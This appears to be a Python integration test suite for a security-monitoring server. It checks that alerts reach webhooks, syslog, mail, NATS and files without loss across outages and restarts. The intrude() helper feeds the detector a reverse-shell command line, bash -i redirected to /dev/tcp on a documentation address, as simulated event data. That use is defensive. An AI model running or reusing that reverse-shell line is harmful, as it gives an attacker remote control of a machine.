#!/usr/bin/python3
"""Findings leave the server: a webhook whose signature holds, syslog over TCP and TLS, mail, a stream of NATS, files; a receiver that is down loses nothing, also
over a restart of the server; secrets are never shown, changes are on record."""

import base64
import hashlib
import hmac
import json
import pathlib
import re
import socket
import ssl
import subprocess
import tempfile
import time

from harness import PATIENCE, Device, Server, event, main, message, process
from receivers import Mailbox, Syslog, Webhook, ask_nats, certificate, shells


def until(condition, seconds=20, say=lambda: ""):
    deadline = time.monotonic() + seconds * PATIENCE
    while not condition():
        assert time.monotonic() < deadline, f"after {seconds} s still not so {say()}"
        time.sleep(0.05)


def intrude(device, number):
    """A reverse shell, High, told apart by its address; of a user of its own, for repeats of one user's are one alert."""
    before = len(device.acknowledged)
    started = process(f"bash -i >& /dev/tcp/203.0.113.{number}/4444 0>&1", user=str(1000 + number))
    started["UserName"] = f"user{number}"
    device.send(f"shell {number}", message(event("ProcessCreate", [started])))
    device.wait_acknowledged(before + 1)


def open_port(device):
    before = len(device.acknowledged)
    ports = [{"Protocol": "tcp", "LocalPort": "8888", "LocalAddress": "0.0.0.0"}]
    device.send("ports", message(event("ListeningPorts", ports, category="Periodic")))
    device.wait_acknowledged(before + 1)


def add(server, name, to, *options):
    return json.loads(server.cli("export", "add", name, "--to", to, "--format", "json", *options))


def status(server, name):
    return json.loads(server.cli("export", "show", name, "--format", "json"))["status"]


def stored(server):
    """The ids of what the workspace calls High: what must have left, no more and no less."""
    return sorted(row[0] for row in server.query("SecurityAlert | where AlertSeverity == 'High' | distinct SystemAlertId"))


def connected(server, credentials=None):
    device = Device(server, credentials or server.make_device("gate"))
    assert device.connect() == 0
    return device


def a_webhook_is_signed_and_loses_nothing():
    receiver = Webhook()
    with Server() as server:
        device = connected(server)
        made = add(server, "soc", f"http://127.0.0.1:{receiver.port}/hook", "--minimum-severity", "Medium")
        secret = made["secret"]
        shown = server.cli("export", "show", "soc", "--format", "json")
        assert secret not in shown and '"signed": true' in shown, shown
        server.cli("export", "test", "soc")
        assert b"Fieldwatch_ExportTest" in receiver.requests.pop()[1]

        receiver.statuses = [500]  # a first failure is tried again
        intrude(device, 1)
        def of_shells():  # the hub's own recommendations come as well
            return [one for one in receiver.requests if b"IoT_ReverseShell" in one[1]]
        until(lambda: len(of_shells()) == 2 and status(server, "soc")["state"] == "well", say=lambda: receiver.requests)
        for headers, body in of_shells():
            said = headers["X-Fieldwatch-Timestamp"].encode() + b"." + body
            assert headers["X-Fieldwatch-Signature"] == "v1=" + hmac.new(secret.encode(), said, hashlib.sha256).hexdigest()
            assert abs(int(headers["X-Fieldwatch-Timestamp"]) - time.time()) < 120
            alert = json.loads(body)
            assert alert["AlertType"] == "IoT_ReverseShell" and headers["Idempotency-Key"] == alert["SystemAlertId"], alert
        assert shells([alert["ExtendedProperties"]["CommandLine"]]) == [1]
        rows = server.query("SecurityAlert | where AlertType == 'IoT_ReverseShell' | distinct SystemAlertId")
        assert rows == [[alert["SystemAlertId"]]], rows

        # A recommendation, too; and its state is in the id.
        open_port(device)
        server.wait_for("SecurityRecommendation | where RecommendationName == 'IoT_OpenPorts' | count", lambda rows: rows[0][0] > 0)
        until(lambda: any(b"IoT_OpenPorts" in body for _, body in receiver.requests))

        # The receiver goes, findings come, the server restarts: all arrive when it is back.
        receiver.close()
        intrude(device, 2)
        intrude(device, 3)
        until(lambda: status(server, "soc")["state"] == "failing" and status(server, "soc")["waiting"] >= 2)
        assert "failing" in server.cli("export", "list")
        assert server.run("export", "test", "soc").returncode == 1
        device.close()
        server.stop()
        server.start()
        assert status(server, "soc")["waiting"] >= 2
        port, seen = receiver.port, receiver.requests
        receiver = Webhook(port)
        until(lambda: shells(body.decode() for _, body in receiver.requests) == [2, 3], 60)
        assert shells(body.decode() for _, body in seen) == [1]
        until(lambda: status(server, "soc")["waiting"] == 0)
        assert status(server, "soc")["state"] == "well" and status(server, "soc")["dropped"] == 0
        sent = sorted({json.loads(body)["SystemAlertId"] for _, body in seen + receiver.requests if b'"AlertSeverity":"High"' in body})
        assert sent == stored(server), (sent, stored(server))
        metrics = server.run("query", "AzureActivity | where OperationNameValue startswith 'Fieldwatch/exports' | project OperationNameValue")
        assert "Fieldwatch/exports/write" in metrics.stdout and "Fieldwatch/exports/test/action" in metrics.stdout, metrics
        assert secret not in server.cli("query", "AzureActivity | project Properties", "--format", "json")
        server.cli("export", "remove", "soc")
        assert server.run("export", "show", "soc").returncode == 1
    receiver.close()


def killed_servers_repeat_but_lose_nothing():
    receiver = Syslog()
    with Server() as server:
        device = connected(server)
        add(server, "siem", f"tcp://127.0.0.1:{receiver.port}", "--findings", "alerts", "--minimum-severity", "High")
        for number in range(1, 4):
            intrude(device, number)
            time.sleep(0.05 * number)
            device.close()
            server.kill()
            server.start()
            device = connected(server, device.credentials)
        server.wait_for("SecurityAlert | where AlertSeverity == 'High' | summarize dcount(SystemAlertId)", lambda rows: rows == [[3]])
        until(lambda: shells(receiver.lines) == [1, 2, 3], say=lambda: receiver.lines)
        assert sorted({re.search(r' id="([^"]+)"', line)[1] for line in receiver.lines}) == stored(server), receiver.lines
        device.close()
    assert not receiver.wrong, receiver.wrong
    receiver.close()


def syslog_goes_over_tcp_and_tls_and_udp():
    plain = Syslog()
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.bind(("127.0.0.1", 0))
    datagrams.settimeout(20 * PATIENCE)
    high = ("--minimum-severity", "High")  # a device's first message is an alert too, an informational one
    with Server() as server:
        device = connected(server)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        with tempfile.TemporaryDirectory() as directory:
            files = certificate(pathlib.Path(directory))
            context.load_cert_chain(*files)
            sealed = Syslog(tls=context)
            add(server, "plain", f"tcp://127.0.0.1:{plain.port}", *high)
            add(server, "sealed", f"tls://127.0.0.1:{sealed.port}", "--as", "cef", "--ca", files[0], *high)
            add(server, "stranger", f"tls://127.0.0.1:{sealed.port}", *high)
            add(server, "datagrams", f"udp://127.0.0.1:{datagrams.getsockname()[1]}", *high)
        intrude(device, 9)
        line = datagrams.recv(65536).decode()
        assert re.match(r"<130>1 \S+Z home fieldwatch - alert \[fieldwatch@32473 id=\"[0-9a-f-]{36}\"", line), line
        until(lambda: plain.lines and sealed.lines, say=lambda: (plain.lines, sealed.lines, sealed.wrong))
        assert plain.lines[0] == line, (plain.lines, line)
        assert " - alert - CEF:0|Fieldwatch|Fieldwatch|" in sealed.lines[0] and "|IoT_ReverseShell|Reverse shells|9|" in sealed.lines[0], sealed.lines
        until(lambda: "certificate" in status(server, "stranger")["problem"], say=lambda: status(server, "stranger"))
        assert status(server, "stranger")["delivered"] == 0
        device.close()
        sealed.close()
    plain.close()


def files_hold_a_line_each():
    with Server() as server:
        device = connected(server)
        for form in ("json", "ocsf", "stix"):
            add(server, form, "file", "--as", form, "--minimum-severity", "High")
        intrude(device, 5)
        for form, check in (("json", lambda one: one["SystemAlertId"]),
                            ("ocsf", lambda one: one["class_uid"] == 2004 and one["severity_id"] == 4 and one["device"]["uid"] == "gate"),
                            ("stix", lambda one: {"sighting", "indicator", "observed-data"} <= {o["type"] for o in one["objects"]})):
            folder = server.data / "exports" / form
            until(lambda: list(folder.glob("*.jsonl")) and list(folder.glob("*.jsonl"))[0].read_text())
            lines = [json.loads(line) for line in next(folder.glob("*.jsonl")).read_text().splitlines()]
            assert len(lines) == 1 and check(lines[0]), lines
        # What is wrong is said, and changes nothing.
        done = server.run("export", "add", "x", "--to", "http://192.0.2.1/")
        assert done.returncode != 0 and "https" in done.stderr, done
        done = server.run("export", "add", "json", "--to", "file", "--for-hub", "none")
        assert done.returncode != 0 and "none" in done.stderr, done
        assert len(json.loads(server.cli("export", "list", "--format", "json"))["value"]) == 3
        device.close()


def later_states_leave_where_they_are_wanted_and_quiet_hours_hold_everything():
    receiver, usual = Webhook(), Webhook()
    with Server() as server:
        device = connected(server)
        add(server, "all", f"http://127.0.0.1:{receiver.port}/", "--states", "all", "--findings", "alerts")
        add(server, "usual", f"http://127.0.0.1:{usual.port}/", "--findings", "alerts")
        now = time.gmtime()
        night = f"{(now.tm_hour - 1) % 24:02}:{now.tm_min:02}-{(now.tm_hour + 1) % 24:02}:{now.tm_min:02}"
        add(server, "night", "file", "--findings", "alerts", "--quiet-hours", night)
        intrude(device, 1)
        rows = server.wait_for("SecurityAlert | where AlertType == 'IoT_ReverseShell' | distinct SystemAlertId", lambda rows: rows)
        alert = rows[0][0]
        shells_of = lambda one: [said for said in (json.loads(body) for _, body in one.requests) if said["AlertType"] == "IoT_ReverseShell"]
        of = lambda one: [said for said in shells_of(one) if said["SystemAlertId"] == alert]
        until(lambda: len(of(receiver)) == 1 and len(of(usual)) == 1)
        server.cli("alerts", "dismiss", alert)
        until(lambda: len(of(receiver)) == 2, say=lambda: of(receiver))
        first, last = of(receiver)
        assert first["Status"] == "New" and last["Status"] == "Dismissed" and first["DeliveryId"] != last["DeliveryId"], (first, last)
        assert last["SystemAlertId"] == alert
        intrude(device, 2)
        until(lambda: len(shells_of(usual)) >= 2, say=lambda: usual.requests)
        assert [one["Status"] for one in of(usual)] == ["New"], of(usual)
        waits = status(server, "night")
        assert waits["quietUntil"] is not None and waits["waiting"] >= 2 and waits["state"] == "well", waits
        add(server, "night", "file", "--findings", "alerts")
        until(lambda: status(server, "night")["waiting"] == 0)
        lines = [line for file in (server.data / "exports" / "night").glob("*.jsonl") for line in file.read_text().splitlines()]
        assert shells(lines) == [1, 2], lines
        device.close()


MAIL = ("--from", "fieldwatch@plant.example", "--recipients", "soc@plant.example,on-call@plant.example", "--findings", "alerts", "--minimum-severity", "High",
        "--group", "none")


def mail_goes_over_tls_with_a_login_and_loses_nothing():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    with Server() as server, tempfile.TemporaryDirectory() as directory:
        directory = pathlib.Path(directory)
        files = certificate(directory)
        context.load_cert_chain(*files)
        (directory / "password").write_text("p\n")
        login = ("--user", "fw", "--password-file", directory / "password", "--ca", files[0])
        box = Mailbox(tls=context, login=("fw", "p"), unknown=("on-call@plant.example",))
        sealed = Mailbox(tls=context, implicit=True, login=("fw", "p"))
        bare = Mailbox()
        device = connected(server)
        add(server, "people", f"smtp://127.0.0.1:{box.port}", *login, *MAIL)
        add(server, "sealed", f"smtps://127.0.0.1:{sealed.port}", *login, *MAIL)
        add(server, "stranger", f"smtp://127.0.0.1:{box.port}", *MAIL)  # not its authority
        add(server, "stripped", f"smtp://127.0.0.1:{bare.port}", *MAIL, *login)  # no STARTTLS: nothing is said
        shown = server.cli("export", "show", "people", "--format", "json")
        assert '"authorized": true' in shown and '"p"' not in shown, shown
        intrude(device, 1)
        until(lambda: box.mails and sealed.mails, 60, lambda: (box.wrong, sealed.wrong, status(server, "people"), status(server, "sealed")))
        sender, recipients, mail = box.mails[0]
        assert sender == "<fieldwatch@plant.example>" and recipients == ["<soc@plant.example>"], (sender, recipients)
        assert sealed.mails[0][1] == ["<soc@plant.example>", "<on-call@plant.example>"]
        assert mail["Subject"].startswith("[Fieldwatch] High: ") and mail["Subject"].endswith(" at gate (home)"), mail["Subject"]
        assert mail["To"] == "soc@plant.example, on-call@plant.example" and mail["Auto-Submitted"] == "auto-generated", mail
        text = mail.get_content()
        assert "What to do" in text and "203.0.113.1/4444" in text and f"fieldwatch alerts show {mail['Message-ID'][1:37]}" in text, text
        assert all(secure and said == ("fw", "p") for said, secure in box.logins + sealed.logins), box.logins
        for name, why in (("stranger", "certificate"), ("stripped", "STARTTLS")):
            until(lambda: why.lower() in status(server, name)["problem"].lower(), 60, lambda: status(server, name))
            assert status(server, name)["delivered"] == 0
        assert not bare.mails and not bare.logins

        # The server goes, findings come, ours is killed: all arrive when it is back, repeats with the same id.
        box.close()
        intrude(device, 2)
        intrude(device, 3)
        until(lambda: status(server, "people")["state"] == "failing")
        device.close()
        server.kill()
        server.start()
        device = connected(server, device.credentials)
        again = Mailbox(box.port, tls=context, login=("fw", "p"))
        again.answers = ["451 later"]  # tried again
        until(lambda: again.shells() == [2, 3], 90, lambda: (again.mails, again.wrong, status(server, "people")))
        until(lambda: status(server, "people")["waiting"] == 0)
        assert {mail["Message-ID"] for _, _, mail in again.mails}.isdisjoint({box.mails[0][2]["Message-ID"]})

        # What a server refuses for good holds up nobody.
        again.answers = ["554 we do not like this one"]
        intrude(device, 4)
        intrude(device, 5)
        until(lambda: again.shells() == [2, 3, 5], 90, lambda: (again.mails, status(server, "people")))
        until(lambda: status(server, "people")["refused"] == 1)
        device.close()
        for one in (again, sealed, bare):
            one.close()


def a_digest_is_one_mail_in_its_time():
    box = Mailbox()
    with Server() as server:
        device = connected(server)
        add(server, "digest", f"smtp+plain://127.0.0.1:{box.port}", *MAIL, "--digest", "1")
        intrude(device, 1)
        until(lambda: len(box.mails) == 1, 60, lambda: status(server, "digest"))
        for number in (2, 3, 4):
            intrude(device, number)
        server.wait_for("SecurityAlert | where AlertSeverity == 'High' | summarize dcount(SystemAlertId)", lambda rows: rows == [[4]])
        until(lambda: status(server, "digest")["waiting"] >= 3 or len(box.mails) > 1)
        until(lambda: box.shells() == [1, 2, 3, 4], 120, lambda: (box.mails, status(server, "digest")))
        assert len(box.mails) == 2, [mail["Subject"] for _, _, mail in box.mails]
        assert box.mails[1][2]["Subject"] == "[Fieldwatch] 3 findings, 3 of them High"
        device.close()
    box.close()


def a_stream_of_nats_has_every_finding_once_through_kills():
    with tempfile.TemporaryDirectory() as folder, Server() as server:
        with socket.create_server(("127.0.0.1", 0)) as probe:
            port = probe.getsockname()[1]
        command = ["/usr/sbin/nats-server", "-a", "127.0.0.1", "-p", str(port), "-js", "-sd", folder]
        nats = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            ask_nats(port, "$JS.API.STREAM.CREATE.FINDINGS", json.dumps({"name": "FINDINGS", "subjects": ["findings.>"], "storage": "file", "num_replicas": 1,
                                                                          "duplicate_window": 3_600_000_000_000}))
            device = connected(server)
            add(server, "lake", f"nats://127.0.0.1:{port}/findings.home", "--findings", "alerts", "--minimum-severity", "High")
            intrude(device, 1)
            until(lambda: status(server, "lake")["delivered"] == 1, 60, lambda: status(server, "lake"))
            nats.kill()
            nats.wait()
            intrude(device, 2)
            until(lambda: status(server, "lake")["state"] == "failing", 60)
            device.close()
            server.kill()
            server.start()
            device = connected(server, device.credentials)
            nats = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            intrude(device, 3)
            until(lambda: status(server, "lake")["waiting"] == 0 and status(server, "lake")["state"] == "well", 90, lambda: status(server, "lake"))
            server.wait_for("SecurityAlert | where AlertSeverity == 'High' | summarize dcount(SystemAlertId)", lambda rows: rows == [[3]])
            until(lambda: json.loads(ask_nats(port, "$JS.API.STREAM.INFO.FINDINGS", ""))["state"]["messages"] >= 3, 60)
            found = [json.loads(base64.b64decode(json.loads(ask_nats(port, "$JS.API.STREAM.MSG.GET.FINDINGS", json.dumps({"seq": n})))["message"]["data"]))
                     for n in range(1, json.loads(ask_nats(port, "$JS.API.STREAM.INFO.FINDINGS", ""))["state"]["messages"] + 1)]
            assert [one["SystemAlertId"] for one in found] == list(dict.fromkeys(one["SystemAlertId"] for one in found)), "each once"
            assert sorted(one["SystemAlertId"] for one in found) == stored(server), found
            device.close()
        finally:
            nats.kill()
            nats.wait()


def a_restored_server_goes_on_where_its_backup_was():
    receiver = Webhook()
    with Server() as server, tempfile.TemporaryDirectory() as folder:
        folder = pathlib.Path(folder)
        credentials = server.make_device("gate")
        device = connected(server, credentials)
        add(server, "soc", f"http://127.0.0.1:{receiver.port}/", "--findings", "alerts", "--minimum-severity", "High")
        intrude(device, 1)
        until(lambda: status(server, "soc")["delivered"] == 1)
        server.cli("backup", folder / "b")
        assert (folder / "b" / "exports" / "soc.json").exists()
        device.close()
        server.stop()
        server.cli("restore", folder / "b", "--data", folder / "data")
        with Server(folder / "data") as copy:
            assert status(copy, "soc")["delivered"] == 1
            device = connected(copy, credentials)
            intrude(device, 2)
            until(lambda: status(copy, "soc")["delivered"] == 2)
            device.close()
        assert [shells([body.decode()]) for _, body in receiver.requests] == [[1], [2]], "nothing twice, nothing lost"


if __name__ == "__main__":
    main(mail_goes_over_tls_with_a_login_and_loses_nothing, a_digest_is_one_mail_in_its_time, a_stream_of_nats_has_every_finding_once_through_kills,
         later_states_leave_where_they_are_wanted_and_quiet_hours_hold_everything, a_restored_server_goes_on_where_its_backup_was,
         a_webhook_is_signed_and_loses_nothing, killed_servers_repeat_but_lose_nothing, syslog_goes_over_tcp_and_tls_and_udp,
         files_hold_a_line_each)
